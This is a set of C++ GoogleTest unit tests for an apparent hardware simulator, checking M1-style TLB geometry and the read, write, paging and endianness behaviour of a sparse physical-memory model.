TEST(Tlb, M1Geometry)
{
    const auto cfg = m1PCoreConfig();
    EXPECT_EQ(cfg.itlb.ways, 4u);
    EXPECT_EQ(cfg.itlb.sets, 32u);
    EXPECT_EQ(cfg.dtlb.ways, 12u);
    EXPECT_EQ(cfg.dtlb.sets, 256u);
    EXPECT_EQ(cfg.l2tlb.ways, 23u);
    EXPECT_EQ(cfg.l2tlb.sets, 2048u);
}

} // namespace
} // namespace pacman::mem
