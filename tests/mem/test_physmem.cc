#include <gtest/gtest.h>

#include "mem/physmem.hh"

namespace pacman::mem
{
namespace
{

TEST(PhysMem, ZeroInitialized)
{
    PhysMem m;
    EXPECT_EQ(m.read64(0x1234), 0u);
    EXPECT_EQ(m.pageCount(), 0u); // reads do not allocate
}

TEST(PhysMem, WriteReadRoundTrip)
{
    PhysMem m;
    m.write64(0x4000, 0x1122334455667788ull);
    EXPECT_EQ(m.read64(0x4000), 0x1122334455667788ull);
    EXPECT_EQ(m.pageCount(), 1u);
}

TEST(PhysMem, ByteGranularity)
{
    PhysMem m;
    m.write(0x100, 0xAB, 1);
    m.write(0x101, 0xCD, 1);
    EXPECT_EQ(m.read(0x100, 2), 0xCDABu); // little-endian
}

TEST(PhysMem, CrossPageAccess)
{
    PhysMem m;
    const Addr edge = isa::PageSize - 4;
    m.write64(edge, 0x8877665544332211ull);
    EXPECT_EQ(m.read64(edge), 0x8877665544332211ull);
    EXPECT_EQ(m.pageCount(), 2u);
}

TEST(PhysMem, SparseHugeAddresses)
{
    PhysMem m;
    const Addr far = 0x0000'7FFF'FFFF'0000ull;
    m.write64(far, 42);
    EXPECT_EQ(m.read64(far), 42u);
    EXPECT_EQ(m.pageCount(), 1u);
}

TEST(PhysMem, PartialWidths)
{
    PhysMem m;
    m.write64(0, 0x1122334455667788ull);
    EXPECT_EQ(m.read(0, 4), 0x55667788u);
    m.write(0, 0xAA, 1);
    EXPECT_EQ(m.read64(0), 0x11223344556677AAull);
}

TEST(PhysMem, Read32Instruction)
{
    PhysMem m;
    m.write(0x2000, 0xD503201F, 4);
    EXPECT_EQ(m.read32(0x2000), 0xD503201Fu);
}

} // namespace
} // namespace pacman::mem
